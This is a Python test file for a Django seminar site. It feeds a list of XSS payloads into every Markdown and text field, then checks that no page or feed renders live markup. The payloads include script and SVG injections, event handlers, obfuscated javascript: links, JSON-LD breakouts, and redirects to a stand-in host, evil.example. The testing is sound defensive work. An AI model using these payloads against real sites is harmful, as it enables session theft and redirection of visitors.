"""An XSS corpus through every Markdown field and the plain text that reaches pages and feeds.

Each payload goes into every field at once (series, venue, seminars, talk, workshop, person,
role, recap, a payment offer and an expense claim); then every page that shows them is read
as a browser would parse it. Nothing the payload carries may become live markup: no script
but the site's own JSON-LD, no new elements of the kinds that run or load things, no event
handler, no javascript:, vbscript: or data: link. The markup the site itself writes (its
forms, meta and link tags) is compared with the same pages built from harmless text.
"""

import collections
import json
import re

import pytest
from bs4 import BeautifulSoup
from django.core.cache import cache
from django.db import connection, transaction
from django.template import Context, Template
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from coproseries.markdown import render_markdown, render_markdown_text
from people.models import ExpenseClaim, ExpenseItem, InvolvementOffer, Person, Role
from seminars.models import Recap, Seminar, Series, Talk, Theme, Venue, Workshop
from tests.factories import (
    PersonFactory,
    RecapFactory,
    RoleFactory,
    SeminarFactory,
    SeriesFactory,
    TalkFactory,
    ThemeFactory,
    UserFactory,
    VenueFactory,
    WorkshopFactory,
)

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-slash": "<script/x>alert(1)</script>",
    "script-nested": "<<script>script>alert(1)<</script>/script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-javascript-src": '<IMG SRC="javascript:alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "html-javascript-link": '<a href="javascript:alert(1)">x</a>',
    "md-javascript-link": "[x](javascript:alert(1))",
    "md-javascript-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-javascript-spaces": "[x](  javascript:alert(1)  )",
    "md-javascript-tab": "[x](java\tscript:alert(1))",
    "md-javascript-entity": "[x](&#106;avascript:alert(1))",
    "md-data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-data-svg-image": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "md-javascript-image": "![x](javascript:alert(1))",
    "md-vbscript": "[x](vbscript:msgbox(1))",
    "md-reference-link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "md-title-breakout": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style": "<style>body{display:none}</style>",
    "form": '<form action="https://evil.example/"><button formaction="javascript:alert(1)">Go',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "entity-scheme": '<a href="&#106;avascript:alert(1)">x</a>',
    "hex-entity-scheme": '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    "control-char-scheme": '<a href="\x01javascript:alert(1)">x</a>',
    "data-link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "attribute-breakout-double": '" onmouseover="alert(1)',
    "attribute-breakout-single": "' onfocus='alert(1)' autofocus '",
    "onclick": '<a href="https://example.org" onclick="alert(1)">x</a>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-onfocus": "<input autofocus onfocus=alert(1)>",
    "comment-hiding": "<!-- --><script>alert(1)</script><!-- -->",
    "comment-img": "<!--<img src=x onerror=alert(1)>-->",
    "json-ld-breakout": "</script><script>alert(1)</script>",
    "json-ld-comment": "<!--<script>",
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
}
HARMLESS = "Plain words about co-production"

# Elements a payload must never add (the site's own are counted on the harmless pages).
WATCHED_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "form", "input", "button", "textarea", "select", "meta", "base", "link", "img",
    "video", "audio", "source", "template", "noscript", "details",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
# What a browser ignores in a URL before reading its scheme (WHATWG URL): leading and
# trailing controls and spaces, and tabs and newlines anywhere.
URL_EDGES = "".join(chr(code) for code in range(0x21))
URL_TABS_AND_NEWLINES = re.compile(r"[\t\n\r]")


def _fit(model, field_name, text):
    """The text cut to the column's length, as the admin's form would insist."""
    max_length = model._meta.get_field(field_name).max_length
    return text[:max_length] if max_length else text


def _site(text):
    """Every model that reaches a public page, every text field holding `text`."""
    role = RoleFactory(name=_fit(Role, "name", text), slug="xss-role", position=0)
    series = SeriesFactory(
        title=_fit(Series, "title", text),
        slug="xss-series",
        strapline=_fit(Series, "strapline", text),
        description=text,
        funder=_fit(Series, "funder", text),
    )
    venue = VenueFactory(
        name=_fit(Venue, "name", text),
        address=text,
        city=_fit(Venue, "city", text),
        postcode=_fit(Venue, "postcode", text),
        access_info=text,
    )
    theme = ThemeFactory(name=_fit(Theme, "name", text), slug="xss-theme", description=text)
    seminar_fields = {
        "series": series,
        "themes": [theme],
        "title": _fit(Seminar, "title", text),
        "summary": _fit(Seminar, "summary", text),
        "description": text,
        "content_notes": text,
        "what_to_expect": text,
        "wellbeing_contact_name": _fit(Seminar, "wellbeing_contact_name", text),
        "wellbeing_contact_details": _fit(Seminar, "wellbeing_contact_details", text),
        "support": text,
        "easy_read": text,
        "venue": venue,
        "capacity": 10,
    }
    seminar = SeminarFactory(slug="xss-seminar", number=1, **seminar_fields)
    past = SeminarFactory(slug="xss-past", number=2, days_from_now=-30, **seminar_fields)
    user = UserFactory(email="speaker@example.org", password=None)  # no hashing: quicker
    person = PersonFactory(
        name=_fit(Person, "name", text),
        slug="xss-person",
        pronouns=_fit(Person, "pronouns", text),
        affiliation=_fit(Person, "affiliation", text),
        bio=text,
        user=user,
        roles=[role],
    )
    talk = TalkFactory(
        id=1000,  # the same address on every build, for the pages to compare
        seminar=seminar,
        title=_fit(Talk, "title", text),
        slug="xss-talk",
        abstract=text,
        room=_fit(Talk, "room", text),
        speakers=[person],
        themes=[theme],
    )
    WorkshopFactory(
        seminar=seminar,
        title=_fit(Workshop, "title", text),
        slug="xss-workshop",
        abstract=text,
        room=_fit(Workshop, "room", text),
        facilitators=[person],
    )
    WorkshopFactory(seminar=past, slug="xss-past-workshop", abstract=text, facilitators=[person])
    RecapFactory(
        seminar=past,
        title=_fit(Recap, "title", text),
        slug="xss-recap",
        summary=_fit(Recap, "summary", text),
        body=text,
        authors=[person],
        themes=[theme],
    )
    # A payment offer and a queried claim: the organisers' Markdown, the person's words.
    offer = InvolvementOffer.objects.create(
        seminar=seminar,
        person=person,
        how_to_claim=text,
        benefits_advice=text,
        answer=InvolvementOffer.Answer.ACCEPTED,
        answered_at=timezone.now(),
    )
    claim = ExpenseClaim.objects.create(
        offer=offer, note=text, status=ExpenseClaim.Status.QUERIED, query=text or "?",
        submitted_at=timezone.now(),
    )  # fmt: skip
    claim.items.create(
        category="travel",
        description=_fit(ExpenseItem, "description", text),
        amount=1,
        spent_on=timezone.localdate(),
    )
    return user, talk, offer, claim


PUBLIC_PAGES = [
    "/",
    "/seminars/",
    "/seminars/xss-seminar/",
    "/seminars/xss-past/",
    "/seminars/xss-seminar/register/",
    "/people/",
    "/people/xss-person/",
    "/recaps/",
    "/recaps/xss-recap/",
    "/themes/",
    "/themes/xss-theme/",
    "/voices/",
    "/search/?q=xss",
]
FEEDS = ["/recaps/feed/", "/seminars/feed/"]


def _pages(text):
    """The HTML of every page showing the site built from `text`, by name."""
    user, talk, offer, claim = _site(text)
    cache.clear()
    anonymous = Client()
    pages = {url: anonymous.get(url) for url in PUBLIC_PAGES}
    # Search for the text itself: the query is shown back, and its matches are highlighted.
    pages["search for the text"] = anonymous.get("/search/", {"q": text[:200]})
    speaker = Client()
    speaker.force_login(user)
    talk_url = reverse("people:talk_edit", args=[talk.pk])
    pages["/profile/"] = speaker.get("/profile/")
    pages["/profile/ preview"] = speaker.post(
        "/profile/", {"name": "Sam", "bio": text, "preview": "1"}
    )
    pages["talk edit"] = speaker.get(talk_url)
    pages["payment offer"] = speaker.get(offer.get_absolute_url())
    pages["queried claim"] = speaker.get(claim.get_absolute_url())
    pages["talk edit preview"] = speaker.post(
        talk_url, {"title": "A talk", "abstract": text, "preview": "1"}
    )
    assert {name: response.status_code for name, response in pages.items()} == dict.fromkeys(
        pages, 200
    )
    return {name: response.content.decode() for name, response in pages.items()}


def _feed_html(url):
    """The HTML inside a feed's entries (elements of type "html"), as a reader would see it."""
    response = Client().get(url)
    assert response.status_code == 200
    feed = BeautifulSoup(response.content, "html.parser")
    return [element.get_text() for element in feed.find_all(type="html")]


def _bad_url(value):
    url = URL_TABS_AND_NEWLINES.sub("", value.strip(URL_EDGES))
    return url.lower().startswith(BAD_SCHEMES)


def _dangers(soup):
    """What in this HTML could run or load something, in a comparable form."""
    found = []
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            values = value if isinstance(value, list) else [value]
            if name.lower().startswith("on"):
                found.append(f"<{element.name} {name}>")
            if name.lower() in URL_ATTRIBUTES and any(_bad_url(v) for v in values):
                found.append(f"<{element.name} {name}={value!r}>")
            if name.lower() == "style":
                found.append(f"<{element.name} style>")
        if element.name == "script":
            if element.get("type") != "application/ld+json":
                found.append("<script> that is not JSON-LD")
            else:
                content = element.string or ""
                if re.search(r"</script|<!--", content, re.IGNORECASE):
                    found.append("JSON-LD holding </script or <!--")
                json.loads(content)  # a payload must not break it
    return found


def _site_own(soup):
    """The site's own forms, links, and meta and base tags that direct the browser."""
    # A database's ids differ between the harmless and the hostile build of the same pages
    # (PostgreSQL's sequences are not rolled back): compare addresses without them.
    return sorted(
        (
            element.name,
            sorted((k, re.sub(r"/\d+/", "/<id>/", str(v))) for k, v in element.attrs.items()),
        )
        for element in soup.find_all(["form", "link", "base", "meta"])
        if element.name != "meta" or element.get("http-equiv")
    )


def _read(html):
    """(dangers, watched elements counted, the site's own markup) of one page or fragment."""
    soup = BeautifulSoup(html, "html.parser")
    counts = collections.Counter(element.name for element in soup.find_all(WATCHED_ELEMENTS))
    counts["raw <script"] = len(re.findall(r"<script", html, re.IGNORECASE))
    return _dangers(soup), counts, _site_own(soup)


_BASELINE = {}


def _baseline():
    """The harmless pages read once per database (built in a savepoint undone after)."""
    if connection.vendor not in _BASELINE:
        with transaction.atomic():
            pages = _pages(HARMLESS)
            transaction.set_rollback(True)
        cache.clear()
        _BASELINE[connection.vendor] = {name: _read(html) for name, html in pages.items()}
    return _BASELINE[connection.vendor]


NOTHING = ([], collections.Counter({"raw <script": 0}), [])


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_markdown_render_leaves_nothing_live(payload):
    html = render_markdown(payload)

    assert _read(html) == NOTHING


def test_markdown_as_text_is_plain_words_that_templates_escape():
    text = render_markdown_text('**Power** & [care](https://example.org) " onmouseover="x')
    rendered = Template('<meta content="{{ text }}">').render(Context({"text": text}))

    assert text == 'Power & care " onmouseover="x'
    assert rendered == '<meta content="Power &amp; care &quot; onmouseover=&quot;x">'


@pytest.mark.django_db
@pytest.mark.filterwarnings("ignore::bs4.XMLParsedAsHTMLWarning")
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_in_every_field_leaves_no_live_markup_on_any_page(payload):
    baseline = _baseline()

    pages = _pages(payload)

    for name, html in pages.items():
        dangers, elements, site_own = _read(html)
        assert (name, dangers) == (name, [])
        assert (name, elements, site_own) == (name, *baseline[name][1:])
    for url in FEEDS:
        for html in _feed_html(url):
            assert (url, _read(html)) == (url, NOTHING)
